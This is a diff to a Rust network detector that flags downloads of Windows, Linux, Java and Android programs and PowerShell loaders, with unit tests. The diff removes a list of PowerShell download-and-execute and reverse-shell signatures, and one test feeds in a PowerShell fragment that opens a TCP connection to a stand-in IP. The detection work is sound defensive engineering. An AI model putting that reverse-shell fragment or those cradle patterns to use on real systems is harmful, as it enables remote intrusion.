@@ -7,8 +7,12 @@
 //! ## How it decides
 //! The answer to a GET begins as a program does (ELF, `MZ` with a PE header, a shell script), and the host was asked for
 //! by its address, or the name of the file is one of a processor (`.arm7`, `mips`, `x86`), or the kind that was
-//! announced is a picture, a page or a folder. Of scripts: those of a shell, and those of PowerShell that load and run
-//! more, or call somebody. Also told: a service of the Internet whose first words are a length and a program of that length
+//! announced is a picture, a page or a folder. Of scripts: those of a shell, those of PowerShell that load and run
+//! more, or call somebody, and those of Windows that start programs, also in a small page and with their letters as
+//! numbers. A program that is hidden is told from everywhere: one of Windows as text (base64, hexadecimal) or mixed with one
+//! byte, or one of Android behind the head of one of Windows. Medium: a program for Linux of which the file has no ending, one of Windows
+//! that a page gives to what is no browser, one for Java or Android from a bare address. Low: one of Windows that is asked for
+//! under a browser's name as no browser asks, or by Java. Also told: a service of the Internet whose first words are a length and a program of that length
 //! (so loaders in memory get their second part, whatever the port); a file asked of the Internet by TFTP, high if it is one of a
 //! processor, else low.
 //! ## What fools it
@@ -18,6 +22,8 @@
 //!
 //! Leaves out: hosts of the home. Holds 256 conversations.
 
+mod kinds;
+
 use std::net::IpAddr;
 
 use crate::{
@@ -25,10 +31,12 @@ use crate::{
         Context, Detector, Evidence, Needs,
         usual::{Bell, Usual},
     },
-    model::{Capped, Card, Category, Finding, Findings, Port, Severity, clean_text, holds, is_private, is_unicast},
-    traffic::{End, Talkers, What},
+    model::{Capped, Card, Category, Finding, Findings, Port, Severity, clean_text, is_private, is_unicast},
+    traffic::{End, Http, Talkers, What},
     wire::{Frame, protocol},
 };
+
+use kinds::program;
 
 pub static CARD: Card = Card {
     id: "tool_download",
@@ -45,23 +53,10 @@ const PROCESSORS: [&str; 12] =
 /// RFC 1350 §4.
 const TFTP: Port = 69;
 /// Endings that promise something harmless.
-const HARMLESS: [&str; 8] = [".png", ".jpg", ".jpeg", ".gif", ".txt", ".html", ".ico", ".css"];
-
-/// What scripts of PowerShell say that load and run something, or let somebody in; in lower case.
-const CRADLES: [&[u8]; 6] = [
-    b"net.sockets.tcpclient(",
-    b"new-object net.webclient",
-    b"new-object system.net.webclient",
-    b").downloadstring(",
-    b"invoke-expression",
-    b"[system.convert]::frombase64string(",
-];
-
-fn holds_any_case(body: &[u8], sign: &[u8]) -> bool {
-    let Some(first) = sign.first() else { return false };
-    let mut places = memchr::memchr2_iter(*first, first.to_ascii_uppercase(), body);
-    places.any(|at| body.get(at..at + sign.len()).is_some_and(|part| part.eq_ignore_ascii_case(sign)))
-}
+const HARMLESS: [&str; 4] = [".txt", ".html", ".htm", ".css"];
+const PICTURES: [&str; 6] = [".png", ".jpg", ".jpeg", ".gif", ".ico", ".bmp"];
+/// Programs that make pages; some makers give out their own programs so, to browsers.
+const PAGES: [&str; 5] = [".php", ".asp", ".aspx", ".jsp", ".cgi"];
 
 /// A length that a program of Windows may have, and one that loads others is not smaller.
 const STAGE: std::ops::Range<u32> = 10_000..(64 << 20);
@@ -92,16 +87,6 @@ impl ToolDownload {
     }
 }
 
-fn program(body: &[u8]) -> Option<&'static str> {
-    match body {
-        [0x7f, b'E', b'L', b'F', ..] => Some("ELF"),
-        [b'M', b'Z', ..] if holds(body, b"PE\0\0") || holds(body, b"DOS mode") => Some("PE"),
-        [b'#', b'!', b'/', ..] if holds(body, b"sh") => Some("script"),
-        _ if CRADLES.iter().any(|sign| holds_any_case(body, sign)) && !body.starts_with(b"<") => Some("script"),
-        _ => None,
-    }
-}
-
 /// The file that a read request of TFTP asks for (RFC 1350 §5).
 fn requested(payload: &[u8]) -> Option<&[u8]> {
     let rest = payload.strip_prefix(&[0, 1])?;
@@ -126,7 +111,7 @@ impl ToolDownload {
         if from == 0 && body.is_empty() {
             self.awaited.insert((client, server), ());
         }
-        if program(body) != Some("PE") {
+        if program(body, false) != Some("PE") {
             return;
         }
         let finding = fetched(talk, "PE", context)
@@ -189,21 +174,44 @@ impl Detector for ToolDownload {
         let host = http.host.rsplit_once(':').map_or(http.host.as_str(), |(host, _)| host);
         let path = http.path.split('?').next().unwrap_or_default().to_ascii_lowercase();
         let bare = host.trim_matches(['[', ']']).parse::<IpAddr>().is_ok();
-        let processor = PROCESSORS.iter().any(|end| path.ends_with(end));
-        let harmless = path.ends_with('/') || HARMLESS.iter().any(|end| path.ends_with(end));
-        // What is fetched is looked into only where the rest speaks for it.
-        if !bare && !processor && !harmless {
-            return;
-        }
-        let Some(kind) = program(&http.body) else { return };
-        if !bare && !processor && kind == "script" {
-            return;
-        }
-        let finding = fetched(&noticed.talk, kind, context)
+        let Some((kind, severity)) = told(http, &path, bare) else { return };
+        let finding = Finding { severity, ..fetched(&noticed.talk, kind, context) }
             .why("destination", clean_text(host, 64))
             .why("path", clean_text(&path, 64))
             .points(if bare { 6.5 } else { 5.5 });
         self.bell.ring(finding, findings);
+    }
+}
+
+/// What was fetched, and how much it says that it came so.
+fn told(http: &Http, path: &str, bare: bool) -> Option<(&'static str, Severity)> {
+    let processor = PROCESSORS.iter().any(|end| path.ends_with(end));
+    let picture = PICTURES.iter().any(|end| path.ends_with(end)) || http.kind.starts_with("image/");
+    let harmless = path.ends_with('/') || picture || HARMLESS.iter().any(|end| path.ends_with(end));
+    // A page, asked for by what is no browser.
+    let unasked = !http.has_accept && !http.is_referred;
+    let page = unasked && (PAGES.iter().any(|end| path.ends_with(end)) || http.kind.starts_with("text/html"));
+    let file = path.rsplit('/').next().unwrap_or_default();
+    let nameless = !file.is_empty() && !file.contains('.');
+    // What is hidden in something else is looked for at the first bytes alone; the rest only where more speaks for it.
+    if let Some(kind) = kinds::hidden(&http.body) {
+        return Some((kind, Severity::High));
+    }
+    // Browsers say which kinds they take; what only has their name asks as it likes. Java loads programs of Windows for
+    // nobody but who breaks out of it.
+    let feigned = unasked && http.agent.starts_with("Mozilla/") || http.agent.contains("Java/1.");
+    if !bare && !processor && !harmless && !page && !nameless && !feigned {
+        return None;
+    }
+    let kind = program(&http.body, bare)?;
+    match kind {
+        "script" if !bare && !processor && !picture => None,
+        // A file of a telephone or of Java; people load such from makers, which have names.
+        "APK" | "JAR" => bare.then_some((kind, Severity::Medium)),
+        _ if bare || processor || harmless => Some((kind, Severity::High)),
+        "ELF" => Some((kind, Severity::Medium)),
+        _ if page => Some((kind, Severity::Medium)),
+        _ => feigned.then_some((kind, Severity::Low)),
     }
 }
 
@@ -213,9 +221,13 @@ mod tests {
     use crate::detectors::stage::{Stage, between, datagram, ip, mac, segment};
 
     fn fetch(host: &str, path: &str, body: &[u8]) -> usize {
+        fetch_as("", host, path, body)
+    }
+
+    fn fetch_as(more: &str, host: &str, path: &str, body: &[u8]) -> usize {
         let mut stage = Stage::new(ToolDownload::new(Settings::default()));
         let (me, other) = ((mac(9), ip(9)), (mac(1), [203, 0, 113, 9]));
-        let ask = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n");
+        let ask = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n");
         let mut answer = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
         answer.extend(body);
         let count = stage.frame(&between(me, other, 6, &segment(40_000, 80, 16, 1, ask.as_bytes())), 0).len();
@@ -265,6 +277,18 @@ mod tests {
         assert_eq!(fetch("example.com", "/logo.png", b"MZ\x90\0This program cannot be run in DOS mode"), 1);
         assert_eq!(fetch("example.com", "/setup.exe", b"MZ\x90\0This program cannot be run in DOS mode"), 0);
         assert_eq!(fetch("203.0.113.9", "/logo.png", b"\x89PNG"), 0);
+        let windows = b"MZ\x90\0This program cannot be run in DOS mode";
+        assert_eq!(fetch("example.com", "/bfg.php?dll=set", windows), 1, "a page that no browser asks for");
+        let agent = "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0)\r\n";
+        assert_eq!(fetch_as(agent, "example.com", "/sys.dll", windows), 1, "no browser asks so");
+        assert_eq!(fetch_as(&format!("{agent}Accept: */*\r\n"), "example.com", "/sys.dll", windows), 0);
+        assert_eq!(fetch_as("User-Agent: Updater/1.0\r\n", "example.com", "/setup.exe", windows), 0, "as it is called");
+        assert_eq!(fetch("example.com", "/crond32", b"\x7fELF\x01"), 1);
+        assert_eq!(fetch("example.com", "/boot/vmlinuz", windows), 0, "what starts by itself");
+        assert_eq!(fetch("example.com", "/tool.bin", b"\x7fELF\x01"), 0);
+        assert_eq!(fetch("example.com", "/a.dat", b"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA"), 1, "as text");
+        assert_eq!(fetch("203.0.113.9", "/a.jar", b"PK\x03\x04\x14\0\x08\0META-INF/MANIFEST.MF"), 1);
+        assert_eq!(fetch("example.com", "/a.jar", b"PK\x03\x04\x14\0\x08\0META-INF/MANIFEST.MF"), 0);
         let cradle = b"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.9',443);$s=$c.GetStream()";
         assert_eq!(fetch("203.0.113.9", "/a.ps1", cradle), 1);
         assert_eq!(fetch("example.com", "/install.ps1", cradle), 0, "of a host with a name");
